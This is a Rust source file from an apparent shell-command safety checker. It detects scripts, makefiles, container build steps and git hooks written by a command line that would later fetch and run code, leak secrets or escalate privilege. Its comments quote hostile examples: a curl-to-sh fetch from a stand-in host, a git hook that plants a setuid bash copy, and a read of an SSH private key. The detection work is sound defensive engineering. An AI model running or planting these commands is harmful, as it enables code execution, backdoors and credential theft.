//! Shell scripts written by the line: what they would do when run later
//! (by cron, a git hook, CI, the developer), not only when the line runs
//! them itself.

use super::*;
use agentgate_commands::LineForm;

/// Whether a finding of a container build step (`RUN`, a container
/// file's command line) reaches this machine: what the build fetches and
/// runs, sends out or hides does; changes of the image's own files and
/// system do not (`image_steps`).
pub(super) fn reaches_host(c: Category) -> bool {
    matches!(c, Rce | Exfil | Obf)
}

/// The longest script judged this way.
const MAX_SCRIPT: usize = 16 * 1024;

impl Walker<'_> {
    /// A file that a build or package tool runs commands from, written with
    /// a shell command in it.
    pub(super) fn manifest_written(&mut self, site: Site<'_>, path: &str, payload: &str) {
        let Some(m) = agentgate_commands::manifest(paths::basename(path)) else {
            return;
        };
        let mut texts = code::literals(payload);
        // Build steps run inside the image being built, not on this
        // machine: judged on their own walker (see `image_steps`).
        let mut image = Vec::new();
        for line in payload.lines() {
            match m.lines {
                LineForm::Literals => {}
                // Recipes are shell command lines, on their own line after
                // a tab or after `target: ;`.
                LineForm::Recipes => {
                    if let Some(recipe) = line.strip_prefix('\t') {
                        texts.push(recipe.to_owned());
                    } else if let Some((rule, recipe)) = line.split_once(';') {
                        if rule.contains(':') {
                            texts.push(recipe.to_owned());
                        }
                    }
                }
                LineForm::RunInstructions => {
                    if let Some(cmd) = line.trim_start().strip_prefix("RUN ") {
                        image.push(super::util::exec_form(cmd).unwrap_or_else(|| cmd.to_owned()));
                    }
                }
                LineForm::CmakeCommand => {
                    if let Some((_, after)) = line.split_once("COMMAND ") {
                        texts.push(after.split(')').next().unwrap_or("").to_owned());
                    }
                }
                LineForm::Shell => texts.push(line.to_owned()),
            }
        }
        let mut runs = self.image_steps(site, path, &image);
        for t in &texts {
            let t = t.trim();
            if t.is_empty() {
                continue;
            }
            let parses = agentgate_shell::analyze(t, &agentgate_shell::Limits::default()).is_ok();
            if code::is_bare_shell(t) {
                runs = true;
            } else if parses && code::looks_like_shell(t) {
                let before = self.out.findings.len();
                self.script(t, site.depth + 1);
                runs |= self.out.findings.len() > before;
            }
        }
        if runs {
            self.find(
                Obf,
                Medium,
                format!(
                    "writes {path}, which {} runs, with a shell command in it",
                    m.run_by
                ),
                &site.cmd.text,
            );
        }
        // A command the tool runs on its own (compared in lower case).
        if !m.autorun.is_empty() && payload.to_ascii_lowercase().contains(m.autorun) {
            self.out.effects.trust_change = true;
            self.find(
                SelfEsc,
                Medium,
                format!(
                    "writes {path} with a command that {} runs on its own ({})",
                    m.run_by, m.autorun
                ),
                &site.cmd.text,
            );
        }
    }

    /// A container file's `RUN` steps run in the image being built, with
    /// the image's files and the build's network, not on this machine: a
    /// package install, a change of `/etc` or a deletion there changes the
    /// image. What still reaches this machine is what the build fetches
    /// and runs, what it sends out and what it hides; those findings are
    /// kept (as `RUN curl -s http://x.example/a | sh`). Whether one was.
    fn image_steps(&mut self, site: Site<'_>, path: &str, steps: &[String]) -> bool {
        let mut kept = false;
        for step in steps {
            let step = step.trim();
            if step.is_empty() {
                continue;
            }
            if self.scripts >= MAX_SCRIPTS {
                self.find(
                    Unverifiable,
                    Medium,
                    "nests shells and wrappers too deeply to check",
                    step,
                );
                return true;
            }
            if code::is_bare_shell(step) {
                kept = true;
                continue;
            }
            let mut inner = Walker::new(&self.ctx);
            inner.script(step, site.depth + 1);
            self.scripts += inner.scripts;
            for f in inner.finish().findings {
                if reaches_host(f.category) {
                    kept = true;
                    self.find(
                        f.category,
                        f.severity,
                        format!("writes {path}, whose build step {}", f.reason),
                        &site.cmd.text,
                    );
                }
            }
        }
        kept
    }

    /// `printf '#!/bin/sh\ncp /bin/bash /tmp/b; chmod 4777 /tmp/b' >
    /// .git/hooks/pre-commit`: a file that is a shell script (a shell
    /// shebang or a `.sh`/`.bash` name) holding a command with a critical
    /// finding is asked about when it is written. The script is judged on
    /// its own walker, so nothing it assigns leaks into the line.
    pub(super) fn written_script(&mut self, site: Site<'_>, path: &str, payload: &str) {
        let shell_file = shebang(payload).is_some_and(|s| agentgate_commands::SHELLS.contains(&s))
            || path.ends_with(".sh")
            || path.ends_with(".bash");
        let code = (!shell_file).then(|| super::util::interpreter_script(path, payload));
        if code.as_ref().is_some_and(Option::is_none)
            || payload.len() > MAX_SCRIPT
            || self.scripts >= MAX_SCRIPTS
        {
            return;
        }
        let mut inner = Walker::new(&self.ctx);
        inner.script(code.flatten().as_deref().unwrap_or(payload), site.depth + 1);
        // Its nested scripts count against this line's budget.
        self.scripts += inner.scripts;
        let worst = inner
            .finish()
            .findings
            .into_iter()
            .find(|f| f.severity == Critical);
        if let Some(f) = worst {
            self.find(
                f.category,
                Medium,
                format!("writes {path}, a script that when run {}", f.reason),
                &site.cmd.text,
            );
        }
    }

    /// `tee FILE <<< TEXT`, `printf ... | tee -a FILE`, `... | sponge
    /// FILE`, `... | sed -n 'w FILE'`: programs that write their input to
    /// the files they name, as a redirect would; the files are remembered
    /// so that running one later is judged by what it holds.
    pub(super) fn record_tee(&mut self, site: Site<'_>) {
        self.shell_procsubs(site);
        let cmd = site.cmd;
        let Some(name) = cmd.name() else {
            return;
        };
        let name = paths::basename(name.value_or_raw());
        if cmd.argv.iter().any(Word::is_dynamic) {
            return;
        }
        let vals: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
        let operands = || {
            vals.iter()
                .copied()
                .filter(|v| !v.starts_with('-') && !v.starts_with("/dev/"))
        };
        let (files, append): (Vec<&str>, bool) = match name {
            // tee(1): every operand; moreutils sponge(1): its one file.
            "tee" | "sponge" => (
                operands().collect(),
                vals.iter().any(|v| matches!(*v, "-a" | "--append")),
            ),
            // sed(1) `w FILE` writes every input line to FILE (with `-n`
            // nothing else is printed): the whole script is the command.
            "sed" => {
                let script = vals
                    .windows(2)
                    .find(|w| matches!(w.first(), Some(&"-e") | Some(&"--expression")))
                    .and_then(|w| w.get(1).copied())
                    .or_else(|| operands().next());
                let file = script
                    .map(str::trim)
                    .and_then(|s| s.strip_prefix('w'))
                    .filter(|f| f.starts_with(' '))
                    .map(str::trim)
                    .filter(|f| !f.is_empty() && !f.contains(['\n', ';']));
                (file.into_iter().collect(), false)
            }
            _ => return,
        };
        if files.is_empty() {
            return;
        }
        let Some(payload) = stdin_text(site) else {
            return;
        };
        let decoded = decoded_upstream(site);
        for file in files {
            self.written_script(site, file, &payload);
            self.remember_written(file.to_owned(), payload.clone(), decoded, append);
        }
    }

    /// `awk -v c=TEXT 'BEGIN{print c > "FILE"}'`, `awk 'BEGIN{print
    /// "TEXT" > "FILE"}'`, `... | awk '{print > "FILE"}'`: awk's output
    /// redirect writes the printed text to FILE (a `-v` value, a string
    /// literal, or each input line).
    pub(super) fn record_awk_print(&mut self, site: Site<'_>) {
        let cmd = site.cmd;
        let Some(name) = cmd.name().map(|n| paths::basename(n.value_or_raw())) else {
            return;
        };
        if !matches!(name, "awk" | "gawk" | "mawk" | "nawk")
            || cmd.argv.iter().any(Word::is_dynamic)
        {
            return;
        }
        let vals: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
        let mut vars: Vec<(&str, &str)> = Vec::new();
        let mut program = None;
        let mut i = 0;
        while let Some(v) = vals.get(i) {
            if *v == "-v" {
                if let Some((k, val)) = vals.get(i + 1).and_then(|a| a.split_once('=')) {
                    vars.push((k, val));
                }
                i += 2;
                continue;
            }
            if v.starts_with('-') {
                i += if matches!(*v, "-F" | "-f") { 2 } else { 1 };
                continue;
            }
            program = Some(*v);
            break;
        }
        let Some(program) = program else {
            return;
        };
        for (expr, file, append) in awk_print_redirects(program) {
            let text = if expr.is_empty() || expr == "$0" {
                if program.trim_start().starts_with("BEGIN") {
                    continue;
                }
                match stdin_text(site) {
                    Some(t) => t,
                    None => continue,
                }
            } else if let Some(lit) = expr.strip_prefix('"').and_then(|e| e.strip_suffix('"')) {
                format!("{lit}\n")
            } else if let Some((_, val)) = vars.iter().find(|(k, _)| *k == expr) {
                format!("{val}\n")
            } else {
                continue;
            };
            self.written_script(site, &file, &text);
            self.remember_written(file, text, false, append);
        }
    }

    /// `perl -e 'open(F, ">/tmp/x.sh"); print F $ARGV[0]' TEXT`, `perl -e
    /// 'open(my $f, ">", "/tmp/x.sh"); print $f "TEXT\n"'`: one file
    /// opened for writing and one print to it, of an argument or a string
    /// literal.
    pub(super) fn record_perl_print(&mut self, site: Site<'_>) {
        let cmd = site.cmd;
        let Some(name) = cmd.name().map(|n| paths::basename(n.value_or_raw())) else {
            return;
        };
        if name != "perl" || cmd.argv.iter().any(Word::is_dynamic) {
            return;
        }
        let vals: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
        let Some(at) = vals.iter().position(|v| *v == "-e" || *v == "-E") else {
            return;
        };
        let Some(code) = vals.get(at + 1) else {
            return;
        };
        let args = vals.get(at + 2..).unwrap_or(&[]);
        let Some((file, append)) = perl_output_file(code) else {
            return;
        };
        let Some(printed) = code.split("print").nth(1) else {
            return;
        };
        let printed = printed.trim_start();
        // The handle, then what is printed.
        let expr = printed
            .split_once(char::is_whitespace)
            .map(|(_, e)| e.trim().trim_end_matches([';', ')']).trim())
            .unwrap_or("");
        let text = if let Some(n) = expr
            .strip_prefix("$ARGV[")
            .and_then(|r| r.strip_suffix(']'))
            .and_then(|n| n.parse::<usize>().ok())
        {
            match args.get(n) {
                Some(a) => format!("{a}\n"),
                None => return,
            }
        } else if let Some(lit) = expr
            .strip_prefix('"')
            .and_then(|e| e.strip_suffix('"'))
            .or_else(|| expr.strip_prefix('\'').and_then(|e| e.strip_suffix('\'')))
        {
            lit.replace("\\n", "\n")
        } else {
            return;
        };
        self.written_script(site, &file, &text);
        self.remember_written(file, text, false, append);
    }

    /// `find . -maxdepth 0 -fprintf run.sh 'TEXT\n'`: find writes its
    /// format to the file once per file it visits (findutils, "-fprintf");
    /// a format with no directive is fixed text, remembered like a
    /// redirect's so that running the file later is judged by it.
    pub(super) fn record_find_print(&mut self, site: Site<'_>) {
        let cmd = site.cmd;
        let Some(name) = cmd.name().map(|n| paths::basename(n.value_or_raw())) else {
            return;
        };
        if name != "find" || cmd.argv.iter().any(Word::is_dynamic) {
            return;
        }
        let vals: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
        for (i, v) in vals.iter().enumerate() {
            if *v != "-fprintf" {
                continue;
            }
            let (Some(file), Some(format)) = (vals.get(i + 1), vals.get(i + 2)) else {
                continue;
            };
            if let Some(text) = find_format_text(format) {
                self.written_script(site, file, &text);
                self.remember_written((*file).to_owned(), text, false, false);
            }
        }
    }

    /// `cp /dev/stdin run.sh <<< TEXT`, `dd of=run.sh`, `install -m755
    /// /dev/stdin run.sh`, `cp a.sh b.sh` of a file the line wrote: the
    /// copy holds the same text, so running it later is judged by it.
    pub(super) fn record_copy(&mut self, site: Site<'_>) {
        let cmd = site.cmd;
        let Some(name) = cmd.name().map(|n| paths::basename(n.value_or_raw())) else {
            return;
        };
        if !matches!(name, "cp" | "install" | "dd") || cmd.argv.iter().any(Word::is_dynamic) {
            return;
        }
        let vals: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
        let (source, dest) = if name == "dd" {
            let arg = |k: &str| vals.iter().find_map(|v| v.strip_prefix(k));
            (arg("if=").unwrap_or("/dev/stdin"), arg("of="))
        } else {
            // `install -m 755 SRC DEST`, `cp -f SRC DEST`: one source.
            let takes =
                |o: &str| matches!(o, "-m" | "--mode" | "-o" | "--owner" | "-g" | "--group");
            let mut ops = Vec::new();
            let mut i = 0;
            while let Some(v) = vals.get(i) {
                if v.starts_with('-') && *v != "-" {
                    i += if takes(v) { 2 } else { 1 };
                    continue;
                }
                ops.push(*v);
                i += 1;
            }
            match ops.as_slice() {
                [src, dst] => (*src, Some(*dst)),
                _ => return,
            }
        };
        let Some(dest) = dest else {
            return;
        };
        let (payload, decoded) = if is_stdin_path(source) {
            let Some(text) = stdin_text(site) else {
                return;
            };
            (text, decoded_upstream(site))
        } else if let Some(g) = self.written(source) {
            (g.payload, g.decoded)
        } else {
            return;
        };
        self.written_script(site, dest, &payload);
        self.remember_written(dest.to_owned(), payload, decoded, false);
    }

    /// A makefile read from standard input (`make -f - <<< ...`,
    /// `printf ... | make -f /dev/stdin`): its recipe lines and `$(shell
    /// ...)` calls are shell commands.
    pub(super) fn stdin_makefile(&mut self, site: Site<'_>, name: &str, vals: &[&str]) {
        if !matches!(name, "make" | "gmake" | "bmake" | "remake") {
            return;
        }
        let stdin_file = vals.windows(2).any(|w| {
            matches!(w, [opt, f] if matches!(*opt, "-f" | "--file" | "--makefile")
                && is_stdin_path(f))
        }) || vals.iter().any(|v| {
            matches!(
                *v,
                "-f-" | "--file=-" | "--file=/dev/stdin" | "-f/dev/stdin"
            )
        });
        if !stdin_file {
            return;
        }
        let input = stdin_text(site);
        let Some(input) = input else {
            self.find(
                Unverifiable,
                Medium,
                format!("{name} reads a makefile from standard input, which cannot be checked"),
                &site.cmd.text,
            );
            return;
        };
        self.makefile(site, &input);
    }

    /// A makefile's shell: its recipe lines (`$$` is a dollar to the
    /// shell) and its `$(shell ...)` calls, judged as shell commands.
    pub(super) fn makefile(&mut self, site: Site<'_>, text: &str) {
        for line in text.lines().take(256) {
            let recipe = line
                .strip_prefix('\t')
                .map(|r| r.trim_start_matches(['@', '-', '+']));
            if let Some(r) = recipe {
                self.script(&r.replace("$$", "$"), site.depth + 1);
            }
            if let Some((_, rest)) = line.split_once("$(shell ") {
                if let Some((cmd, _)) = rest.rsplit_once(')') {
                    self.script(cmd, site.depth + 1);
                }
            }
        }
    }
}

/// Some earlier element of the command's pipeline is a decoder (base64,
/// xxd, rev...): what it passes on was hidden.
fn decoded_upstream(site: Site<'_>) -> bool {
    upstream(site).iter().any(|c| {
        c.name()
            .is_some_and(|n| decode::is_decoder_name(paths::basename(n.value_or_raw())))
    })
}

/// The text of a `find -printf` format with no directive (`%%` is a
/// percent sign), its escapes decoded; `None` when the text depends on the
/// files visited or uses an escape not read here.
fn find_format_text(format: &str) -> Option<String> {
    let mut out = String::new();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next()? {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                'r' => out.push('\r'),
                '\\' => out.push('\\'),
                // `\c` stops the format.
                'c' => return Some(out),
                _ => return None,
            },
            '%' => match chars.next()? {
                '%' => out.push('%'),
                _ => return None,
            },
            c => out.push(c),
        }
    }
    Some(out)
}

/// The `print EXPR > "FILE"` statements of an awk program: the printed
/// expression (empty for a bare `print`), the file, and whether it appends
/// (`>>`). Only a quoted file name is read (a computed one is not known).
fn awk_print_redirects(program: &str) -> Vec<(String, String, bool)> {
    let mut out = Vec::new();
    for stmt in program.split([';', '{', '}', '\n']) {
        let Some(rest) = stmt.trim().strip_prefix("print") else {
            continue;
        };
        if rest.starts_with('f') {
            continue;
        }
        let Some((expr, target)) = rest.split_once('>') else {
            continue;
        };
        let (target, append) = match target.strip_prefix('>') {
            Some(t) => (t, true),
            None => (target, false),
        };
        let Some(file) = target
            .trim()
            .strip_prefix('"')
            .and_then(|t| t.strip_suffix('"'))
        else {
            continue;
        };
        out.push((expr.trim().to_owned(), file.to_owned(), append));
    }
    out
}

/// The file a Perl one-liner opens for writing: `open(F, ">FILE")`, `open(F,
/// ">>FILE")` or the three-argument `open(my $f, ">", "FILE")`.
fn perl_output_file(code: &str) -> Option<(String, bool)> {
    let args = code.split("open(").nth(1)?.split(')').next()?;
    let parts: Vec<&str> = args
        .split(',')
        .map(|p| p.trim().trim_matches(['"', '\'']))
        .collect();
    match parts.as_slice() {
        [_, mode, file] if matches!(*mode, ">" | ">>") => Some(((*file).to_owned(), *mode == ">>")),
        [_, target] => {
            let (append, file) = match target.strip_prefix(">>") {
                Some(f) => (true, f),
                None => (false, target.strip_prefix('>')?),
            };
            Some((file.trim().to_owned(), append))
        }
        _ => None,
    }
}

/// An output process substitution's word (`>(sh)`) whose command is a
/// shell reading its input: what is written to it runs.
fn procsub_shell(raw: &str) -> bool {
    raw.strip_prefix(">(")
        .and_then(|r| r.strip_suffix(')'))
        .is_some_and(shell_process)
}

/// Whether a process substitution's command is a shell reading its input.
fn shell_process(command: &str) -> bool {
    code::is_bare_shell(command.trim())
}

impl Walker<'_> {
    /// Text written into a shell: `... | tee >(sh)`, `echo TEXT > >(bash)`,
    /// `exec 5> >(bash); echo TEXT >&5`. The text is judged as the script
    /// it is.
    fn shell_procsubs(&mut self, site: Site<'_>) {
        let cmd = site.cmd;
        let Some(name) = cmd.name().map(|n| paths::basename(n.value_or_raw())) else {
            return;
        };
        if name == "exec" && cmd.argv.len() == 1 {
            for r in &cmd.redirects {
                let shell =
                    r.kind != RedirectKind::Read && r.process.as_deref().is_some_and(shell_process);
                if shell {
                    self.fd_shells.insert(r.fd.unwrap_or(1));
                }
            }
            return;
        }
        let into_shell = cmd.redirects.iter().any(|r| {
            let out = r.fd.unwrap_or(1) == 1;
            out && (r.process.as_deref().is_some_and(shell_process)
                || r.kind == RedirectKind::Duplicate
                    && r.dup_from.is_some_and(|n| self.fd_shells.contains(&n)))
        });
        let tee_into_shell =
            name == "tee" && cmd.argv.iter().skip(1).any(|w| procsub_shell(&w.raw));
        if !(into_shell || tee_into_shell) {
            return;
        }
        let text = if tee_into_shell || !matches!(name, "echo" | "printf") {
            stdin_text(site)
        } else if cmd.argv.iter().any(Word::is_dynamic) {
            None
        } else {
            let args: Vec<&str> = cmd.argv.iter().skip(1).map(Word::value_or_raw).collect();
            decode::printed(name, &args)
        };
        match text {
            Some(t) => self.script(&t, site.depth + 1),
            None => self.find(
                Unverifiable,
                Medium,
                "writes text only known at run time into a shell, which cannot be checked",
                &cmd.text,
            ),
        }
    }
}

impl Walker<'_> {
    /// Whether a data file handed to a program holds, after a setting's
    /// name (`command = CMD`, `ProxyCommand CMD`, `name: CMD`, `1e CMD`,
    /// `!CMD`), a command that would be found harmful if run: the formats
    /// of build files, client settings and tool scripts put the command at
    /// the end of a line. What was found is not kept (whether the program
    /// runs that line is not known); the caller asks.
    pub(super) fn line_tails_act(&mut self, site: Site<'_>, payload: &str) -> bool {
        !self.probe(|w| w.line_tails(site, payload)).is_empty()
    }

    fn line_tails(&mut self, site: Site<'_>, payload: &str) {
        for line in payload.lines().take(256) {
            let line = line.trim();
            let mut tails: Vec<&str> = Vec::new();
            if let Some((_, t)) = line.split_once('=') {
                tails.push(t);
            }
            if let Some((_, t)) = line.split_once(':') {
                tails.push(t);
            }
            // After a first word that is a setting's name, not a program
            // (`ProxyCommand CMD`, `shell CMD`, `1e CMD`).
            if let Some((first, t)) = line.split_once(char::is_whitespace) {
                if !super::unknown::known_command(paths::basename(first)) {
                    tails.push(t);
                }
            }
            if let Some(t) = line.strip_prefix('!') {
                tails.push(t);
            }
            for t in tails {
                let t = t.trim();
                if t.is_empty() || t == line || !code::looks_like_shell(t) {
                    continue;
                }
                if analyze(t, &Limits::default()).is_ok() {
                    self.script(t, site.depth + 1);
                }
            }
        }
    }
}

impl Walker<'_> {
    /// The secrets a file written earlier in the line makes `name` read:
    /// a line that is a command (`cat ~/.ssh/id_rsa`) by what that command
    /// reads (`cp .env.example .env` reads no secret), any other line (a
    /// list of paths for `tar -T`, `rsync --files-from`) by the paths it
    /// names.
    pub(super) fn written_file_reads(
        &mut self,
        site: Site<'_>,
        name: &str,
        path: &str,
        payload: &str,
    ) {
        let text = &site.cmd.text;
        // Code for an interpreter: the commands it shows are judged with
        // the code; the rest names the files it reads itself.
        let residue;
        let payload = if INTERPRETERS.contains(&name) {
            residue = super::codeargs::code_without_commands(payload);
            residue.as_str()
        } else {
            payload
        };
        for line in payload.lines().take(512) {
            // A setting whose value is a command (`k = "!CMD"`, `command =
            // CMD`): the value is the line's command.
            let l = line.trim();
            let l = match l.split_once(['=', ':']) {
                Some((key, value))
                    if !key.trim().is_empty()
                        && key
                            .trim()
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')) =>
                {
                    value.trim().trim_matches('"').trim_start_matches('!')
                }
                _ => l,
            };
            if code::looks_like_shell(l) && analyze(l, &Limits::default()).is_ok() {
                let reads: Vec<(Severity, String)> = self
                    .probe(|w| w.script(l, site.depth + 1))
                    .into_iter()
                    .filter(|f| f.category == Cred)
                    .map(|f| (f.severity, f.reason))
                    .collect();
                for (sev, reason) in reads {
                    let what = reason.strip_prefix("reads ").unwrap_or(&reason);
                    self.find(
                        Cred,
                        sev,
                        format!("hands {name} a file it just wrote ({path}) that reads {what}"),
                        text,
                    );
                }
                continue;
            }
            for tok in paths::tokens(l) {
                if let Some((sev, what)) = paths::credential(tok) {
                    self.find(
                        Cred,
                        sev,
                        format!("hands {name} a file it just wrote ({path}) that reads {what}"),
                        text,
                    );
                }
            }
        }
    }
}

impl Walker<'_> {
    /// Records `payload` as written to `path` (appended to what the line
    /// wrote there before, or replacing it; a file once written through a
    /// decoder stays marked so).
    pub(super) fn remember_written(
        &mut self,
        path: String,
        payload: String,
        decoded: bool,
        append: bool,
    ) {
        let earlier = self.written(&path);
        if append {
            let at = self.written_at(&path);
            if let Some(entry) = at.and_then(|i| self.generated.get_mut(i)) {
                entry.payload.push('\n');
                entry.payload.push_str(&payload);
                entry.decoded |= decoded;
                return;
            }
        }
        // Only the same path is replaced: `h/shard.yml` and `shard.yml`
        // may both be read (same_file's looser match is for finding a file).
        self.generated
            .retain(|g| !exactly_same_file(&g.path, &path));
        self.generated.push(Generated {
            decoded: decoded || earlier.is_some_and(|g| g.decoded),
            path,
            payload,
            partial: false,
        });
    }

    /// The file written earlier in the line at `file`, if any.
    pub(super) fn written(&self, file: &str) -> Option<Generated> {
        let key = var_key(file);
        let file = key.as_deref().unwrap_or(file);
        self.written_at(file)
            .and_then(|i| self.generated.get(i))
            .cloned()
    }

    /// Where the latest write to `file` is in `generated`: the same path
    /// first, else a file it may be (`same_file`).
    fn written_at(&self, file: &str) -> Option<usize> {
        let g = &self.generated;
        g.iter()
            .rposition(|g| exactly_same_file(&g.path, file))
            .or_else(|| g.iter().rposition(|g| same_file(&g.path, file)))
    }
}
